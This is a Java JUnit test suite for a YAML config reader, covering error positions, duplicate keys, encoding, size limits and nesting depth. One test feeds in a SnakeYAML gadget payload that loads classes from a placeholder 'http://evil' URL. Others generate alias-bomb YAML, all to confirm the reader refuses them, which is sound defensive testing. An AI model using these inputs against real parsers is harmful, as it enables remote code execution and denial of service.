package org.threshold.api.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reading YAML into a ConfigNode tree: what SnakeYAML lets through and what we must refuse. */
class ConfigReadingTest {

    @TempDir
    Path dir;

    private static List<String> problems(ConfigDocument doc) {
        doc.root();
        return doc.problems().stream().map(ConfigProblem::toString).toList();
    }

    private static List<String> thrown(Runnable action) {
        try {
            action.run();
        } catch (ConfigException e) {
            return e.problems().stream().map(ConfigProblem::toString).toList();
        }
        throw new AssertionError("expected a ConfigException");
    }

    @Test
    void marksAreOneBasedLineAndColumn() {
        ConfigDocument doc = ConfigDocument.parse("task:\n  type: listops\n  modulus: 10\n", "run.yaml");
        ConfigNode.Mapping task = (ConfigNode.Mapping) ((ConfigNode.Mapping) doc.tree()).get("task").orElseThrow();
        assertThat(task.entry("modulus").orElseThrow().keyMark()).isEqualTo(new Mark("run.yaml", 3, 3));
        assertThat(task.get("modulus").orElseThrow().mark()).isEqualTo(new Mark("run.yaml", 3, 12));
    }

    @Test
    void duplicateKeysAreProblemsNamingTheFirstOccurrence() {
        ConfigDocument doc = ConfigDocument.parse("seed: 1\ntask:\n  type: a\n  type: b\nseed: 2\n", "run.yaml");
        assertThat(problems(doc)).containsExactly(
                "run.yaml:4:3: task.type: expected each key once, found 'type' again (first at line 3, column 3)",
                "run.yaml:5:1: seed: expected each key once, found 'seed' again (first at line 1, column 1)");
        // The first value is kept, so binding goes on.
        assertThat(doc.root().longInteger("seed", 0, 0, 10)).isEqualTo(1);
    }

    @Test
    void malformedUtf8IsRefusedWithItsLineAndColumn() throws Exception {
        Path file = dir.resolve("latin1.yaml");
        byte[] head = "seed: 1\ntask:\n  type: caf".getBytes(StandardCharsets.UTF_8);
        byte[] bad = {(byte) 0xE9};
        byte[] tail = "\n".getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + 2];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(bad, 0, all, head.length, 1);
        System.arraycopy(tail, 0, all, head.length + 1, 1);
        Files.write(file, all);
        assertThat(thrown(() -> ConfigDocument.read(file))).containsExactly(
                file + ":3:12: expected UTF-8 text, found the byte 0xE9 (save the file as UTF-8)");
    }

    @Test
    void utf8WithByteOrderMarkAndAccentsReads() throws Exception {
        Path file = dir.resolve("accents.yaml");
        Files.write(file, "\uFEFFname: café\n".getBytes(StandardCharsets.UTF_8));
        assertThat(ConfigDocument.read(file).root().text("name", "")).isEqualTo("café");
    }

    @Test
    void aMissingFileIsBadInput() {
        Path file = dir.resolve("absent.yaml");
        assertThat(thrown(() -> ConfigDocument.read(file))).containsExactly(
                file + ": expected a config file, found no file at this path");
    }

    @Test
    void syntaxErrorsStopAtTheFirstWithItsPosition() {
        assertThat(thrown(() -> ConfigDocument.parse("a: [1, 2\nb: c: d\n", "bad.yaml"))).containsExactly(
                "bad.yaml:2:2: invalid YAML: expected ',' or ']', but got : (while parsing a flow sequence at 1:4)");
        assertThat(thrown(() -> ConfigDocument.parse("a: 1\n\tb: 2\n", "tab.yaml"))).hasSize(1)
                .first().asString().startsWith("tab.yaml:2:1: invalid YAML: found character '\\t(TAB)'");
    }

    @Test
    void globalTagsAreRefusedWithALine() {
        String yaml = "seed: 1\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]\n";
        assertThat(thrown(() -> ConfigDocument.parse(yaml, "evil.yaml"))).containsExactly(
                "evil.yaml:2:4: expected a value without a tag, found the global tag '!!javax.script.ScriptEngineManager'"
                        + " (tags that name classes are refused)");
    }

    @Test
    void localTagsAreProblemsAndExplicitStrMakesText() {
        ConfigDocument doc = ConfigDocument.parse("a: !foo x\nb: !!str 10\nc: !!set {x: null}\n", "tags.yaml");
        assertThat(problems(doc)).containsExactly(
                "tags.yaml:1:4: a: expected a value without a tag, found the tag '!foo' (tags are not supported)",
                "tags.yaml:3:4: c: expected a value without a tag, found the tag '!!set' (tags are not supported)");
        assertThat(doc.root().text("b", "")).isEqualTo("10");
        doc.root().integer("b", 0, 0, 100);
        assertThat(doc.root().problems()).extracting(ConfigProblem::toString)
                .containsExactly("tags.yaml:2:4: b: expected an integer from 0 to 100, found quoted text '10'");
    }

    @Test
    void aliasBombsStopAtTheFirstAliasPastTheLimit() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i <= 60; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a").append(i - 1)
                    .append("]\n");
        }
        // line k + 1 holds aliases 2k - 1 and 2k: alias 51 opens line 27
        assertThat(thrown(() -> ConfigDocument.parse(yaml.toString(), "bomb.yaml"))).containsExactly(
                "bomb.yaml:27:12: expected at most 50 aliases (*name) of lists or mappings, found more: this is alias 51 "
                        + "(a guard against alias bombs); write the values out instead of repeating aliases");
    }

    @Test
    void aliasesOfScalarsDoNotCountTowardsTheAliasLimit() {
        StringBuilder yaml = new StringBuilder("s: &s x\nl: &l [1]\nv:\n");
        for (int i = 0; i < 60; i++) {
            yaml.append("  - *s\n");
        }
        for (int i = 0; i < 51; i++) {
            yaml.append("  - *l\n");
        }
        assertThat(thrown(() -> ConfigDocument.parse(yaml.toString(), "mixed.yaml"))).hasSize(1).first().asString()
                .startsWith("mixed.yaml:" + (3 + 60 + 51) + ":5: expected at most 50 aliases");
    }

    @Test
    void aliasesWithinTheLimitThatStillExpandTooFarAreRefused() {
        // 25 levels of doubling stay under SnakeYAML's 50 aliases but expand to 2^25 values.
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i <= 24; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a").append(i - 1)
                    .append("]\n");
        }
        assertThat(thrown(() -> ConfigDocument.parse(yaml.toString(), "wide.yaml"))).hasSize(1).first().asString()
                .startsWith("wide.yaml:").contains("expected at most 100000 values after expanding aliases, found more");
    }

    @Test
    void plainAliasesWork() {
        ConfigDocument doc = ConfigDocument.parse("base: &b {steps: 5}\ntraining: *b\n", "alias.yaml");
        assertThat(doc.root().section("training").integer("steps", 1, 1, 10)).isEqualTo(5);
    }

    @Test
    void nestingBeyondFiftyLevelsIsRefusedWhereItPassesTheLimit() {
        // the top-level mapping and 50 lists are open around the 51st '[', at column 4 + 50
        String yaml = "a: " + "[".repeat(60) + "]".repeat(60) + "\n";
        assertThat(thrown(() -> ConfigDocument.parse(yaml, "deep.yaml"))).containsExactly(
                "deep.yaml:1:54: expected lists and mappings nested at most 50 deep, found deeper nesting: this value is at depth 51");
        StringBuilder block = new StringBuilder();
        for (int i = 0; i < 60; i++) {
            block.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        // key k(i), on line i + 1 at column 2i + 1, sits inside i + 1 open mappings: k50 is the first past the limit
        assertThat(thrown(() -> ConfigDocument.parse(block.toString(), "keys.yaml"))).containsExactly(
                "keys.yaml:51:101: expected lists and mappings nested at most 50 deep, found deeper nesting: this value is at depth 51");
    }

    @Test
    void mergeKeysAndNonTextKeysAreProblems() {
        ConfigDocument doc = ConfigDocument.parse("base: &b {x: 1}\nt:\n  <<: *b\n  ? [1, 2]\n  : 3\n", "merge.yaml");
        assertThat(problems(doc)).containsExactly(
                "merge.yaml:3:3: t: expected a key, found the merge key '<<' (not supported: write the keys out, or use an alias as a value)",
                "merge.yaml:4:5: t: expected a key that is text, found a list");
    }

    @Test
    void anEmptyFileIsAProblemAtItsStart() {
        assertThat(problems(ConfigDocument.parse("", "empty.yaml"))).containsExactly(
                "empty.yaml:1:1: the file is empty: expected a mapping of settings (key: value lines)");
        assertThat(problems(ConfigDocument.parse("# only a comment\n\n", "comment.yaml"))).containsExactly(
                "comment.yaml:1:1: the file is empty: expected a mapping of settings (key: value lines)");
    }

    @Test
    void aTopLevelListOrAnEmptyFileReportsItsCauseAloneNotWhatBindersThenMiss() {
        for (String text : List.of("- a\n- b\n", "")) {
            ConfigDocument doc = ConfigDocument.parse(text, "run.yaml");
            ConfigSection task = doc.root().section("task");
            task.problem("type", "expected one of the task plugins listops, found no type");
            assertThat(thrown(doc::check)).hasSize(1).first().asString().startsWith("run.yaml:1:1: ")
                    .doesNotContain("found no type");
        }
        assertThat(problems(ConfigDocument.parse("- a\n- b\n", "list.yaml"))).containsExactly(
                "list.yaml:1:1: expected a mapping of settings (key: value lines), found a list");
    }

    @Test
    void aDirectoryOrADeviceIsNotReadAsAConfig() throws Exception {
        assertThat(thrown(() -> ConfigDocument.read(dir))).containsExactly(
                dir + ":1:1: expected a config file (YAML text), found a directory; give the path of a .yaml file");
        Path zero = Path.of("/dev/zero");
        org.junit.jupiter.api.Assumptions.assumeTrue(Files.exists(zero), "a system with /dev/zero");
        assertThat(thrown(() -> ConfigDocument.read(zero))).containsExactly(
                "/dev/zero:1:1: expected a config file (YAML text), found a device or another special file; give the path of a .yaml file");
    }

    @Test
    void aFileLargerThanTheLimitIsRefusedWhereItPassesIt() throws Exception {
        Path file = dir.resolve("big.yaml");
        // 100-byte lines: byte 3,145,728 is on line 31,458, column 29
        String line = "k: " + "x".repeat(96) + "\n";
        Files.writeString(file, line.repeat(40_000));
        assertThat(thrown(() -> ConfigDocument.read(file))).containsExactly(
                file + ":31458:29: expected a config file of at most 3,145,728 bytes (3 MB), found a larger one (the limit is passed "
                        + "here); a run file is a few lines of settings");
        assertThat(thrown(() -> ConfigDocument.parse(line.repeat(40_000), "big.yaml"))).containsExactly(
                "big.yaml:31458:29: expected a config of at most 3,145,728 characters, found more (the limit is passed here); a run "
                        + "file is a few lines of settings");
    }

    @Test
    void twoDocumentsInOneFileAreASyntaxError() {
        assertThat(thrown(() -> ConfigDocument.parse("a: 1\n---\nb: 2\n", "two.yaml"))).hasSize(1).first().asString()
                .startsWith("two.yaml:2:1: invalid YAML: but found another document");
    }
}
